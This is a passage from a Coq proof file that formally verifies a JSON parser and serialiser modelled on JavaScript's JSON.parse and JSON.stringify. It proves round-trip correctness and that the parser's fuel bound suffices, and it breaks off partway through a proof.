    rewrite (IH (length s1)); [done|cbn; lia|done].
Qed.

(** ** Objects *)

Lemma has_key_false k (o : list (jsstring * json)) :
  k ∉ map fst o -> has_key k o = false.
Proof.
  induction o as [|[k' m] o IH]; cbn; [done|].
  intros Hk. apply not_elem_of_cons in Hk as [Hne Hk].
  rewrite bool_decide_eq_false_2 by done. auto.
Qed.

Lemma build_object_app acc (ms : list (jsstring * json)) :
  NoDup (map fst (acc ++ ms)) ->
  forallb (fun '(k, _) => plain_key k) ms = true ->
  foldl (fun o kv => obj_set kv.1 kv.2 o) acc ms = acc ++ ms.
Proof.
  revert acc. induction ms as [|[k m] ms IH]; intros acc Hdup Hplain; cbn.
  { by rewrite app_nil_r. }
  cbn in Hplain. apply andb_true_iff in Hplain as [Hk Hplain].
  assert (obj_set k m acc = acc ++ [(k, m)]) as ->.
  { unfold obj_set. rewrite has_key_false.
    - unfold plain_key in Hk. by destruct (array_index k).
    - rewrite map_app in Hdup. apply NoDup_app in Hdup as (_ & Hdisj & _).
      intros Hin. apply (Hdisj k Hin). cbn. left. }
  rewrite IH; [by rewrite <- app_assoc| |done].
  by rewrite <- app_assoc.
Qed.

Lemma build_object_plain (ms : list (jsstring * json)) :
  NoDup (map fst ms) ->
  forallb (fun '(k, _) => plain_key k) ms = true ->
  build_object ms = ms.
Proof. intros. by apply (build_object_app []). Qed.

(** ** Values *)

Lemma json_ind (P : json -> Prop) :
  P JNull -> (forall b, P (JBool b)) -> (forall n, P (JNum n)) ->
  (forall s, P (JStr s)) ->
  (forall items, Forall P items -> P (JArr items)) ->
  (forall members, Forall (fun km => P km.2) members -> P (JObj members)) ->
  forall v, P v.
Proof.
  intros HNull HBool HNum HStr HArr HObj. fix IH 1.
  intros [|b|n|s|items|members];
    [exact HNull | apply HBool | apply HNum | apply HStr | |].
  - apply HArr. induction items as [|m ms IHms]; constructor.
    + apply IH.
    + exact IHms.
  - apply HObj. induction members as [|[k m] ms IHms]; constructor.
    + apply IH.
    + exact IHms.
Qed.

Lemma parse_value_skip_ws fuel ws s :
  forallb is_json_ws ws = true ->
  parse_value fuel (ws ++ s) = parse_value fuel s.
Proof.
  intros Hws. destruct fuel; [done|].
  cbn [parse_value]. by rewrite (skip_ws_app ws s Hws).
Qed.

Lemma parse_elements_skip_ws fuel ws s :
  forallb is_json_ws ws = true ->
  parse_elements fuel (ws ++ s) = parse_elements fuel s.
Proof.
  intros Hws. destruct fuel; [done|].
  cbn [parse_elements]. by rewrite (parse_value_skip_ws fuel ws s Hws).
Qed.

Lemma parse_members_skip_ws fuel ws s :
  forallb is_json_ws ws = true ->
  parse_members fuel (ws ++ s) = parse_members fuel s.
Proof.
  intros Hws. destruct fuel; [done|].
  cbn [parse_members]. by rewrite (skip_ws_app ws s Hws).
Qed.

(** The text of a value starts with a character that is neither white
    space nor a closing bracket. *)
Lemma serialize_head gap indent v :
  exists c tl, serialize gap indent v = c :: tl
    /\ is_json_ws c = false /\ (c =? 93) = false /\ (c =? 125) = false.
Proof.
  destruct v as [|[|]|[|p|p]|s|items|members];
    try (cbn; eexists _, _; by split_and!).
  - destruct (digits_to_uint_head p) as (c & tl & Hd & Hc & _).
    exists c, tl. cbn. split; [done|].
    apply andb_true_iff in Hc as [Hlo%N.leb_le Hhi%N.leb_le].
    unfold is_json_ws.
    split_and!; repeat (apply orb_false_iff; split); apply N.eqb_neq; lia.
  - cbn [serialize]. unfold wrap.
    destruct (map _ items); [|destruct gap]; cbn; eexists _, _; by split_and!.
  - cbn [serialize]. unfold wrap.
    destruct (map _ members); [|destruct gap]; cbn; eexists _, _; by split_and!.
Qed.

Lemma delimited_after_ws ws s :
  forallb is_json_ws ws = true -> delimited s = true ->
  delimited (ws ++ s) = true.
Proof.
  destruct ws as [|c ws]; [done|]. cbn [forallb app].
  intros [Hc _]%andb_true_iff _. unfold is_json_ws in Hc.
  repeat (apply orb_true_iff in Hc as [Hc|Hc]);
    by apply N.eqb_eq in Hc as ->.
Qed.

Lemma skip_ws_to_head ws c tl :
  forallb is_json_ws ws = true -> is_json_ws c = false ->
  skip_ws (ws ++ c :: tl) = c :: tl.
Proof. intros Hws Hc. by rewrite skip_ws_app, skip_ws_cons. Qed.

Lemma join_cons_cons sep (p q : jsstring) ps :
  join sep (p :: q :: ps) = p ++ sep ++ join sep (q :: ps).
Proof. done. Qed.

Lemma join_head sep (p : jsstring) ps c tl :
  p = c :: tl -> exists tl', join sep (p :: ps) = c :: tl'.
Proof. intros ->. destruct ps; cbn; eauto. Qed.

Lemma wrap_cons opening closing gap indent (p : jsstring) ps :
  forallb is_json_ws gap = true -> forallb is_json_ws indent = true ->
  exists pre post,
    forallb is_json_ws pre = true /\ forallb is_json_ws post = true
    /\ forall rest,
         wrap opening closing gap indent (p :: ps) ++ rest
         = opening :: pre ++ join (44 :: pre) (p :: ps)
             ++ post ++ closing :: rest.
Proof.
  intros Hgap Hindent. unfold wrap. destruct gap as [|g gap].
  - exists [], []. split_and!; [done..|]. intros rest.
    cbn [app]. by rewrite <- app_assoc.
  - exists (10 :: indent ++ g :: gap), (10 :: indent).
    split_and!.
    + cbn [forallb]. by rewrite forallb_app, Hindent, Hgap.
    + cbn [forallb]. by rewrite Hindent.
    + intros rest. cbv zeta. cbn [app]. reassoc. reflexivity.
Qed.

Lemma parse_elements_join (text : json -> jsstring) pre post items :
  forallb is_json_ws pre = true -> forallb is_json_ws post = true ->
  Forall (reads_back text) items -> items <> [] ->
  forall w rest fuel,
    forallb is_json_ws w = true ->
    (list_sum (map (fun m => S (json_size m)) items) < fuel)%nat ->
    parse_elements fuel
      (w ++ join (44 :: pre) (map text items) ++ post ++ 93 :: rest)
    = Normal (Some items, rest).
Proof.
  intros Hpre Hpost Hitems. induction Hitems as [|m ms Hm Hms IH]; [done|].
  intros _ w rest fuel Hw Hfuel. cbn in Hfuel.
  destruct fuel as [|fuel]; [lia|].
  rewrite (parse_elements_skip_ws _ w _ Hw). cbn [parse_elements].
  destruct ms as [|m' ms].
  - cbn [map join]. rewrite Hm; [|by apply delimited_after_ws|lia].
    cbn [mbind completion_bind bind].
    by rewrite (skip_ws_to_head post 93 rest Hpost).
  - cbn [map]. rewrite join_cons_cons, <- !app_assoc.
    rewrite Hm; [|done|lia]. cbn [mbind completion_bind bind app skip_ws].
    cbn [is_json_ws N.eqb Pos.eqb orb].
    change (text m' :: map text ms) with (map text (m' :: ms)).
    rewrite (IH ltac:(done) pre rest fuel Hpre); [done|]. cbn in *. lia.
Qed.

(** ** Members, elements and whole values *)

Lemma parse_value_colon (text : json -> jsstring) gap m rest fuel :
  reads_back text m -> delimited rest = true -> (json_size m < fuel)%nat ->
  exists tl, colon gap ++ text m ++ rest = 58 :: tl
             /\ parse_value fuel tl = Normal (Some m, rest).
Proof.
  intros Hm Hrest Hfuel. destruct gap as [|g gap]; cbn [colon app].
  - eexists. split; [done|]. by apply Hm.
  - eexists. split; [done|].
    etrans; [by apply (parse_value_skip_ws fuel [32] (text m ++ rest))|].
    by apply Hm.
Qed.

Lemma parse_members_join (text : json -> jsstring) gap pre post
    (members : list (jsstring * json)) :
  forallb is_json_ws pre = true -> forallb is_json_ws post = true ->
  Forall (fun km => reads_back text km.2) members -> members <> [] ->
  forall w rest fuel,
    forallb is_json_ws w = true ->
    (list_sum (map (fun '(_, m) => S (json_size m)) members) < fuel)%nat ->
    parse_members fuel
      (w ++ join (44 :: pre)
              (map (fun '(k, m) => quote k ++ colon gap ++ text m) members)
         ++ post ++ 125 :: rest)
    = Normal (Some members, rest).
Proof.
  intros Hpre Hpost Hmembers.
  induction Hmembers as [|[k m] ms Hm Hms IH]; [done|].
  intros _ w rest fuel Hw Hfuel. cbn in Hfuel.
  destruct fuel as [|fuel]; [lia|].
  rewrite (parse_members_skip_ws _ w _ Hw). cbn [parse_members].
  destruct ms as [|km' ms].
  - cbn [map join]. unfold quote. reassoc. cbn [skip_ws].
    cbn [is_json_ws N.eqb Pos.eqb orb negb].
    rewrite parse_chars_quote_chars. cbn [mbind completion_bind bind].
    destruct (parse_value_colon text gap m (post ++ 125 :: rest) fuel)
      as (tl & -> & Htl); [done|by apply delimited_after_ws|lia|].
    cbn [skip_ws is_json_ws N.eqb Pos.eqb orb negb]. rewrite Htl.
    cbn [mbind completion_bind bind].
    by rewrite (skip_ws_to_head post 125 rest Hpost).
  - cbn [map]. rewrite join_cons_cons. unfold quote at 1.
    reassoc. cbn [skip_ws].
    cbn [is_json_ws N.eqb Pos.eqb orb negb].
    rewrite parse_chars_quote_chars. cbn [mbind completion_bind bind].
    match goal with
    | |- context [colon gap ++ text m ++ ?r] =>
        destruct (parse_value_colon text gap m r fuel)
          as (tl & -> & Htl); [done|done|lia|]
    end.
    cbn [skip_ws is_json_ws N.eqb Pos.eqb orb negb]. rewrite Htl.
    cbn [skip_ws is_json_ws N.eqb Pos.eqb orb negb mbind completion_bind bind
         app].
    match goal with
    | |- context [parse_members fuel (pre ++ join _ ?l ++ _)] =>
        change l with
          (map (fun '(k, m) => quote k ++ colon gap ++ text m) (km' :: ms))
    end.
    rewrite (IH ltac:(done) pre rest fuel Hpre); [done|]. cbn in *. lia.
Qed.

Lemma parse_value_number c s fuel :
  (c =? 45) || is_digit c = true ->
  parse_value (S fuel) (c :: s) = parse_number (c :: s).
Proof.
  intros Hc.
  assert (c = 45 \/ 48 <= c <= 57) as Hrange.
  { apply orb_true_iff in Hc as [->%N.eqb_eq|Hc]; [by left|right].
    apply andb_true_iff in Hc as [?%N.leb_le ?%N.leb_le]. lia. }
  assert (forall d, d <> 45 -> (d < 48 \/ 57 < d) -> (c =? d) = false) as Hne.
  { intros d ? ?. apply N.eqb_neq. lia. }
  assert (is_json_ws c = false) as Hws.
  { unfold is_json_ws. by rewrite !Hne by (done || lia). }
  cbn [parse_value skip_ws]. rewrite Hws, Hc.
  by rewrite !Hne by (done || lia).
Qed.

Lemma number_to_string_head n :
  exists c tl, number_to_string n = c :: tl /\ (c =? 45) || is_digit c = true.
Proof.
  destruct n as [|p|p]; cbn [number_to_string];
    [by eexists _, _ | | by eexists _, _].
  destruct (digits_to_uint_head p) as (c & tl & Hd & Hc & _).
  exists c, tl. by rewrite Hd, Hc, orb_true_r.
Qed.

Lemma representable_arr items :
  representable (JArr items) = true
  <-> Forall (fun m => representable m = true) items.
Proof.
  cbn. by rewrite forallb_forall, Forall_forall;
    setoid_rewrite list_elem_of_In.
Qed.

Lemma representable_obj members :
  representable (JObj members) = true <->
  Forall (fun km => representable km.2 = true) members
  /\ forallb (fun '(k, _) => plain_key k) members = true
  /\ NoDup (map fst members).
Proof.
  cbn [representable]. rewrite andb_true_iff, bool_decide_eq_true.
  rewrite !forallb_forall, Forall_forall.
  setoid_rewrite <- list_elem_of_In. split.
  - intros [H ?]. split_and!; [| |done]; intros [k m] Hin;
      apply H in Hin as [??]%andb_true_iff; done.
  - intros (Hr & Hk & ?). split; [|done]. intros [k m] Hin.
    apply andb_true_iff. split; [apply (Hk _ Hin)|apply (Hr _ Hin)].
Qed.

Lemma parse_value_serialize v :
  forall gap indent,
    forallb is_json_ws gap = true -> forallb is_json_ws indent = true ->
    representable v = true -> reads_back (serialize gap indent) v.
Proof.
  induction v as [|b|n|s|items IH|members IH] using json_ind;
    intros gap indent Hgap Hindent Hrep rest fuel Hrest Hfuel;
    (destruct fuel as [|fuel]; [cbn in Hfuel; lia|]).
  - done.
  - by destruct b.
  - cbn [serialize].
    destruct (number_to_string_head n) as (c & tl & Hn & Hc).
    rewrite Hn. cbn [app]. rewrite parse_value_number by done.
    change (c :: tl ++ rest) with ((c :: tl) ++ rest). rewrite <- Hn.
    by apply parse_number_to_string.
  - cbn [serialize]. unfold quote. reassoc.
    cbn [parse_value skip_ws is_json_ws N.eqb Pos.eqb orb].
    by rewrite parse_chars_quote_chars.
  - cbn [serialize]. destruct items as [|m ms]; [done|].
    apply representable_arr in Hrep.
    assert (Forall (reads_back (serialize gap (indent ++ gap))) (m :: ms))
      as Hitems.
    { apply Forall_forall. intros x Hx.
      rewrite Forall_forall in IH, Hrep.
      apply (IH x Hx); [done| |by apply Hrep].
      by rewrite forallb_app, Hindent, Hgap. }
    cbn [map].
    destruct (wrap_cons 91 93 gap indent
                (serialize gap (indent ++ gap) m)
                (map (serialize gap (indent ++ gap)) ms) Hgap Hindent)
      as (pre & post & Hpre & Hpost & ->).
    cbn [parse_value skip_ws is_json_ws N.eqb Pos.eqb orb].
    destruct (serialize_head gap (indent ++ gap) m)
      as (c & tl & Hhead & Hws & H93 & _).
    destruct (join_head (44 :: pre) _
                (map (serialize gap (indent ++ gap)) ms) c tl Hhead)
      as (tl' & Hjoin).
    rewrite Hjoin. cbn [app]. rewrite (skip_ws_to_head pre c _ Hpre Hws).
    rewrite H93.
    change (c :: tl' ++ ?r) with ([] ++ (c :: tl') ++ r). rewrite <- Hjoin.
    change (serialize gap (indent ++ gap) m
              :: map (serialize gap (indent ++ gap)) ms)
      with (map (serialize gap (indent ++ gap)) (m :: ms)).
    rewrite (parse_elements_join _ pre post (m :: ms)); try done.
    cbn in Hfuel |- *. lia.
  - cbn [serialize]. destruct members as [|[k m] ms]; [done|].
    apply representable_obj in Hrep as (Hrep & Hkeys & Hnodup).
    assert (Forall (fun km => reads_back (serialize gap (indent ++ gap)) km.2)
                   ((k, m) :: ms)) as Hmembers.
    { apply Forall_forall. intros x Hx.
      rewrite Forall_forall in IH, Hrep.
      apply (IH x Hx); [done| |by apply Hrep].
      by rewrite forallb_app, Hindent, Hgap. }
    cbn [map].
    match goal with
    | |- context [wrap _ _ _ _ (?p :: ?ps)] =>
        destruct (wrap_cons 123 125 gap indent p ps Hgap Hindent)
          as (pre & post & Hpre & Hpost & ->)
    end.
    cbn [parse_value skip_ws is_json_ws N.eqb Pos.eqb orb].
    match goal with
    | |- context [join ?sep (?p :: ?ps)] =>
        destruct (join_head sep p ps 34 (quote_chars k ++ [34] ++ colon gap
                     ++ serialize gap (indent ++ gap) m))
          as (tl' & Hjoin); [by unfold quote; reassoc|]
    end.
    rewrite Hjoin. cbn [app]. rewrite (skip_ws_to_head pre 34 _ Hpre eq_refl).
    cbn [N.eqb Pos.eqb].
    change (34 :: tl' ++ ?r) with ([] ++ (34 :: tl') ++ r). rewrite <- Hjoin.
    match goal with
    | |- context [join _ ?l] =>
        change l with
          (map (fun '(k, m) =>
                  quote k ++ colon gap ++ serialize gap (indent ++ gap) m)
               ((k, m) :: ms))
    end.
    rewrite (parse_members_join _ gap pre post ((k, m) :: ms)); try done.
    + cbn [mbind completion_bind bind option_map].
      by rewrite build_object_plain.
    + cbn in Hfuel |- *. lia.
Qed.

(** ** The text is long enough to be read back *)

Lemma join_length (sep : jsstring) (parts : list jsstring) :
  (list_sum (map (fun p => S (length p)) parts)
   <= S (length (join (44%N :: sep) parts)))%nat.
Proof.
  induction parts as [|p [|q ps] IH]; cbn [map list_sum join foldr] in *;
    [lia|lia|].
  rewrite !length_app. cbn [length]. lia.
Qed.

Lemma wrap_length opening closing gap indent (parts : list jsstring) :
  (list_sum (map (fun p => S (length p)) parts)
   < length (wrap opening closing gap indent parts))%nat.
Proof.
  destruct parts as [|p ps]; [cbn; lia|].
  unfold wrap. destruct gap as [|g gap].
  - pose proof (join_length [] (p :: ps)).
    rewrite !length_app. cbn [length] in *. lia.
  - pose proof (join_length (10%N :: indent ++ g :: gap) (p :: ps)).
    cbv zeta. rewrite !length_app. cbn [length app] in *. lia.
Qed.

Lemma list_sum_le {A} (f g : A -> nat) (l : list A) :
  Forall (fun x => f x <= g x)%nat l ->
  (list_sum (map f l) <= list_sum (map g l))%nat.
Proof. unfold list_sum. induction 1; cbn in *; lia. Qed.

Lemma json_size_serialize v :
  forall gap indent, (json_size v <= length (serialize gap indent v))%nat.
Proof.
  induction v as [|b|n|s|items IH|members IH] using json_ind;
    intros gap indent; cbn [json_size serialize]; try lia.
  - pose proof (wrap_length 91 93 gap indent
                  (map (serialize gap (indent ++ gap)) items)) as Hlen.
    rewrite map_map in Hlen.
    pose proof (list_sum_le (fun m => S (json_size m))
                  (fun m => S (length (serialize gap (indent ++ gap) m)))
                  items) as Hle.
    unfold list_sum in *. unfold lt in Hlen.
    etrans; [|exact Hlen]. apply le_n_S, Hle.
    eapply Forall_impl; [exact IH|]. intros m Hm. cbn.
    specialize (Hm gap (indent ++ gap)). lia.
  - pose proof (wrap_length 123 125 gap indent
                  (map (fun '(k, m) =>
                          quote k ++ colon gap
                            ++ serialize gap (indent ++ gap) m)
                       members)) as Hlen.
    rewrite map_map in Hlen.
    pose proof (list_sum_le (fun '(_, m) => S (json_size m))
                  (fun km => S (length (let '(k, m) := km in
                          quote k ++ colon gap
                            ++ serialize gap (indent ++ gap) m)))
                  members) as Hle.
    unfold list_sum in *. unfold lt in Hlen.
    etrans; [|exact Hlen]. apply le_n_S, Hle.
    eapply Forall_impl; [exact IH|]. intros [k m] Hm. cbn [snd] in Hm.
    specialize (Hm gap (indent ++ gap)). rewrite !length_app. lia.
Qed.

(** ** [JSON.parse (JSON.stringify v)] *)

Lemma forallb_repeat {A} (p : A -> bool) x n :
  p x = true -> forallb p (repeat x n) = true.
Proof. intros Hx. induction n; cbn; [done|]. by rewrite Hx. Qed.

Lemma JSON_parse_serialize v gap :
  forallb is_json_ws gap = true -> representable v = true ->
  JSON_parse (serialize gap [] v) = Normal v.
Proof.
  intros Hgap Hrep. unfold JSON_parse.
  pose proof (parse_value_serialize v gap [] Hgap eq_refl Hrep []
                (S (2 * length (serialize gap [] v))) eq_refl) as Hread.
  rewrite app_nil_r in Hread. rewrite Hread; [done|].
  pose proof (json_size_serialize v gap []). lia.
Qed.

Lemma JSON_parse_stringify v space :
  representable v = true -> JSON_parse (JSON_stringify v space) = Normal v.
Proof.
  intros Hrep. apply JSON_parse_serialize; [|done]. by apply forallb_repeat.
Qed.

End JsonRoundTrip.

(** * The descent never runs out of fuel *)

Section JsonParseFuel.

Implicit Types (s rest : jsstring) (c : code_unit) (fuel : nat).

Lemma skip_ws_length s : (length (skip_ws s) <= length s)%nat.
Proof.
  induction s as [|c s IH]; cbn; [done|]. destruct (is_json_ws c); cbn; lia.
Qed.

Lemma read_digits_length s : (length (read_digits s).2 <= length s)%nat.
Proof.
  induction s as [|c s IH]; cbn; [done|].
  destruct (digit_of c) as [d|]; [|done].
  destruct (read_digits s) as [u' rest']. cbn in *. lia.
Qed.

Lemma digit_of_digit c : is_digit c = true -> is_Some (digit_of c).
Proof.
  intros [Hlo%N.leb_le Hhi%N.leb_le]%andb_true_iff.
  assert (c = 48 \/ c = 49 \/ c = 50 \/ c = 51 \/ c = 52 \/ c = 53
          \/ c = 54 \/ c = 55 \/ c = 56 \/ c = 57) as Hc by lia.
  repeat (destruct Hc as [->|Hc]; [by eexists|]). subst. by eexists.
Qed.

Lemma cons_unit_Normal c (m : completion (jsstring * jsstring)) body rest :
  cons_unit c m = Normal (body, rest) ->
  exists body', m = Normal (body', rest).
Proof.
  destruct m as [[body' rest']| |]; cbn; [|done..].
  intros [= <- <-]. eauto.
Qed.

Lemma parse_chars_length s body rest :
  parse_chars s = Normal (body, rest) -> (length rest < length s)%nat.
Proof.
  remember (length s) as n eqn:Hn.
  revert s body rest Hn. induction (lt_wf n) as [n _ IH].
  intros s body rest -> Hparse.
  destruct s as [|c s1]; [done|]. cbn [parse_chars] in Hparse.
  destruct (c =? 34).
  { injection Hparse as <- <-. cbn. lia. }
  destruct (c =? 92).
  - destruct s1 as [|e s2]; [done|].
    destruct (e =? 117).
    + destruct s2 as [|h1 [|h2 [|h3 [|h4 s3]]]]; try done.
      destruct (hex4_value h1 h2 h3 h4); [|done].
      apply cons_unit_Normal in Hparse as [body' Hparse].
      apply (IH (length s3)) in Hparse; cbn; [lia|lia|done].
    + destruct (single_escape e); [|done].
      apply cons_unit_Normal in Hparse as [body' Hparse].
      apply (IH (length s2)) in Hparse; cbn; [lia|lia|done].
  - destruct (c <? 32); [done|].
    apply cons_unit_Normal in Hparse as [body' Hparse].
    apply (IH (length s1)) in Hparse; cbn; [lia|lia|done].
Qed.

Lemma parse_chars_modelled s : parse_chars s <> Unmodelled.
Proof.
  remember (length s) as n eqn:Hn.
  revert s Hn. induction (lt_wf n) as [n _ IH]. intros s ->.
  assert (forall c s', (length s' < length s)%nat ->
            cons_unit c (parse_chars s') <> Unmodelled) as Hcons.
  { intros c s' Hlt. specialize (IH (length s') Hlt s' eq_refl).
    by destruct (parse_chars s') as [[]| |]. }
  destruct s as [|c s1]; [done|]. cbn [parse_chars].
  destruct (c =? 34); [done|].
  destruct (c =? 92).
  - destruct s1 as [|e s2]; [done|].
    destruct (e =? 117).
    + destruct s2 as [|h1 [|h2 [|h3 [|h4 s3]]]]; try done.
      destruct (hex4_value h1 h2 h3 h4); [|done].
      apply Hcons. cbn. lia.
    + destruct (single_escape e); [|done]. apply Hcons. cbn. lia.
  - destruct (c <? 32); [done|]. apply Hcons. cbn. lia.
Qed.

Lemma digits1_length s rest :
  digits1 s = Normal rest -> (length rest <= length s)%nat.
Proof.
  unfold digits1. destruct (head_is_digit s); [|done].
  intros [= <-]. apply read_digits_length.
Qed.

Lemma fraction_length s present rest :
  fraction s = Normal (present, rest) -> (length rest <= length s)%nat.
Proof.
  destruct s as [|c s']; cbn; [by intros [= <- <-]|].
  destruct (c =? 46); [|intros [= <- <-]; cbn; lia].
  destruct (digits1 s') as [r| |] eqn:Hd; cbn; [|done..].
  intros [= <- <-]. apply digits1_length in Hd. lia.
Qed.

Lemma exponent_length s present rest :
  exponent s = Normal (present, rest) -> (length rest <= length s)%nat.
Proof.
  destruct s as [|c s']; cbn; [by intros [= <- <-]|].
  destruct (_ || _); [|intros [= <- <-]; cbn; lia].
  destruct (digits1 _) as [r| |] eqn:Hd; cbn; [|done..].
  intros [= <- <-]. apply digits1_length in Hd.
  destruct s' as [|d t]; [cbn in *; lia|].
  destruct (_ || _); cbn in *; lia.
Qed.

Lemma parse_number_length s v rest :
  parse_number s = Normal (v, rest) -> (length rest < length s)%nat.
Proof.
  unfold parse_number.
  set (sign := match s with
               | c :: s' => if c =? 45 then (true, s') else (false, s)
               | [] => (false, s)
               end).
  assert (length sign.2 <= length s)%nat as Hsign.
  { subst sign. destruct s as [|c s']; [done|].
    destruct (c =? 45); cbn; lia. }
  destruct sign as [negative s1]. cbn [snd] in Hsign.
  destruct s1 as [|c s2]; [done|].
  destruct (is_digit c) eqn:Hc; cbn [negb]; [|done].
  set (int := if c =? 48 then (Decimal.D0 Decimal.Nil, s2)
              else read_digits (c :: s2)).
  assert (length int.2 <= length s2)%nat as Hint.
  { subst int. destruct (c =? 48); [done|].
    cbn [read_digits]. destruct (digit_of_digit c Hc) as [d ->].
    pose proof (read_digits_length s2).
    by destruct (read_digits s2). }
  destruct int as [u s3]. cbn [snd] in Hint.
  destruct (fraction s3) as [[hf s4]| |] eqn:Hf; cbn; [|done..].
  destruct (exponent s4) as [[he s5]| |] eqn:He; cbn; [|done..].
  intros [= _ <-].
  apply fraction_length in Hf. apply exponent_length in He. cbn in Hsign. lia.
Qed.

Lemma parse_number_modelled s : parse_number s <> Unmodelled.
Proof.
  unfold parse_number.
  destruct (match s with
            | c :: s' => if c =? 45 then (true, s') else (false, s)
            | [] => (false, s)
            end) as [negative s1].
  destruct s1 as [|c s2]; [done|].
  destruct (negb (is_digit c)); [done|].
  destruct (if c =? 48 then _ else _) as [u s3].
  assert (forall t, digits1 t <> Unmodelled) as Hd.
  { intros t. unfold digits1. by destruct (head_is_digit t). }
  assert (fraction s3 <> Unmodelled) as Hf.
  { destruct s3 as [|c3 s3]; cbn; [done|]. destruct (c3 =? 46); [|done].
    specialize (Hd s3). by destruct (digits1 s3). }
  destruct (fraction s3) as [[hf s4]| |]; cbn; [|done..].
  assert (exponent s4 <> Unmodelled) as He.
  { destruct s4 as [|c4 s4]; cbn; [done|]. destruct (_ || _); [|done].
    match goal with |- context [digits1 ?t] =>
      specialize (Hd t); by destruct (digits1 t) end. }
  by destruct (exponent s4) as [[he s5]| |].
Qed.

Lemma is_prefix_length (p s : jsstring) :
  is_prefix p s = true -> (length p <= length s)%nat.
Proof.
  revert s. induction p as [|a p IH]; intros [|b s]; cbn; try done; [lia|].
  intros [_ H]%andb_true_iff. apply IH in H. lia.
Qed.

Lemma expect_length word v s x rest :
  (0 < String.length word)%nat ->
  expect word v s = Normal (x, rest) -> (length rest < length s)%nat.
Proof.
  intros Hword. unfold expect.
  destruct (is_prefix (str word) s) eqn:Hp; [|done].
  intros [= _ <-]. apply is_prefix_length in Hp.
  assert (length (str word) = String.length word) as Hlen.
  { unfold str. rewrite length_map. clear.
    induction word; cbn; [done|]. by rewrite IHword. }
  rewrite length_drop. lia.
Qed.

Lemma expect_modelled word v s : expect word v s <> Unmodelled.
Proof. unfold expect. by destruct (is_prefix _ _). Qed.

(** What a call returns is shorter than what it was given. *)
Lemma parse_length fuel :
  (forall s v rest,
     parse_value fuel s = Normal (v, rest) -> (length rest < length s)%nat)
  /\ (forall s vs rest,
        parse_elements fuel s = Normal (vs, rest) ->
        (length rest < length s)%nat)
  /\ (forall s ms rest,
        parse_members fuel s = Normal (ms, rest) ->
        (length rest < length s)%nat).
Proof.
  induction fuel as [|fuel (IHv & IHe & IHm)]; [by split_and!|].
  split_and!.
  - intros s v rest. cbn [parse_value].
    pose proof (skip_ws_length s) as Hs.
    destruct (skip_ws s) as [|c s1]; [done|]. cbn [length] in Hs.
    destruct (c =? 123).
    { pose proof (skip_ws_length s1) as Hs1.
      destruct (skip_ws s1) as [|c2 s2]; [done|]. cbn [length] in Hs1.
      destruct (c2 =? 125); [intros [= _ <-]; lia|].
      destruct (parse_members fuel (c2 :: s2)) as [[ms s3]| |] eqn:Hm;
        cbn; [|done..].
      intros [= _ <-]. apply IHm in Hm. cbn in Hm. lia. }
    destruct (c =? 91).
    { pose proof (skip_ws_length s1) as Hs1.
      destruct (skip_ws s1) as [|c2 s2]; [done|]. cbn [length] in Hs1.
      destruct (c2 =? 93); [intros [= _ <-]; lia|].
      destruct (parse_elements fuel (c2 :: s2)) as [[vs s3]| |] eqn:He;
        cbn; [|done..].
      intros [= _ <-]. apply IHe in He. cbn in He. lia. }
    destruct (c =? 34).
    { destruct (parse_chars s1) as [[body s2]| |] eqn:Hc; cbn; [|done..].
      intros [= _ <-]. apply parse_chars_length in Hc. lia. }
    destruct (c =? 116).
    { intros H%expect_length; [cbn in H; lia|cbn; lia]. }
    destruct (c =? 102).
    { intros H%expect_length; [cbn in H; lia|cbn; lia]. }
    destruct (c =? 110).
    { intros H%expect_length; [cbn in H; lia|cbn; lia]. }
    destruct (_ || _); [|done].
    intros H%parse_number_length. cbn in H. lia.
  - intros s vs rest. cbn [parse_elements].
    destruct (parse_value fuel s) as [[v s1]| |] eqn:Hv; cbn; [|done..].
    apply IHv in Hv.
    pose proof (skip_ws_length s1) as Hs1.
    destruct (skip_ws s1) as [|c s2]; [done|]. cbn [length] in Hs1.
    destruct (c =? 44).
    { destruct (parse_elements fuel s2) as [[vs' s3]| |] eqn:He;
        cbn; [|done..].
      intros [= _ <-]. apply IHe in He. lia. }
    destruct (c =? 93); [|done]. intros [= _ <-]. lia.
  - intros s ms rest. cbn [parse_members].
    pose proof (skip_ws_length s) as Hs.
    destruct (skip_ws s) as [|q s1]; [done|]. cbn [length] in Hs.
    destruct (negb (q =? 34)); [done|].
    destruct (parse_chars s1) as [[k s2]| |] eqn:Hk; cbn; [|done..].
    apply parse_chars_length in Hk.
    pose proof (skip_ws_length s2) as Hs2.
    destruct (skip_ws s2) as [|colon s3]; [done|]. cbn [length] in Hs2.
    destruct (negb (colon =? 58)); [done|].
    destruct (parse_value fuel s3) as [[v s4]| |] eqn:Hv; cbn; [|done..].
    apply IHv in Hv.
    pose proof (skip_ws_length s4) as Hs4.
    destruct (skip_ws s4) as [|c s5]; [done|]. cbn [length] in Hs4.
    destruct (c =? 44).
    { destruct (parse_members fuel s5) as [[ms' s6]| |] eqn:Hm;
        cbn; [|done..].
      intros [= _ <-]. apply IHm in Hm. lia. }
    destruct (c =? 125); [|done]. intros [= _ <-]. lia.
Qed.

(** Twice the length of the text is fuel enough for a value, and one more
    for a list of elements or members. *)
Lemma parse_fuel fuel :
  (forall s, (2 * length s < fuel)%nat -> parse_value fuel s <> Unmodelled)
  /\ (forall s, (2 * length s + 1 < fuel)%nat ->
                parse_elements fuel s <> Unmodelled)
  /\ (forall s, (2 * length s + 1 < fuel)%nat ->
                parse_members fuel s <> Unmodelled).
Proof.
  induction fuel as [|fuel (IHv & IHe & IHm)]; [split_and!; intros; lia|].
  destruct (parse_length fuel) as (Lv & Le & Lm).
  split_and!.
  - intros s Hfuel. cbn [parse_value].
    pose proof (skip_ws_length s) as Hs.
    destruct (skip_ws s) as [|c s1]; [done|]. cbn [length] in Hs.
    destruct (c =? 123).
    { pose proof (skip_ws_length s1) as Hs1.
      destruct (skip_ws s1) as [|c2 s2]; [done|]. cbn [length] in Hs1.
      destruct (c2 =? 125); [done|].
      specialize (IHm (c2 :: s2)). cbn [length] in IHm.
      destruct (parse_members fuel (c2 :: s2)) as [[ms s3]| |]; cbn;
        [done..|]. intros _. apply IHm; [lia|done]. }
    destruct (c =? 91).
    { pose proof (skip_ws_length s1) as Hs1.
      destruct (skip_ws s1) as [|c2 s2]; [done|]. cbn [length] in Hs1.
      destruct (c2 =? 93); [done|].
      specialize (IHe (c2 :: s2)). cbn [length] in IHe.
      destruct (parse_elements fuel (c2 :: s2)) as [[vs s3]| |]; cbn;
        [done..|]. intros _. apply IHe; [lia|done]. }
    destruct (c =? 34).
    { pose proof (parse_chars_modelled s1).
      by destruct (parse_chars s1) as [[]| |]. }
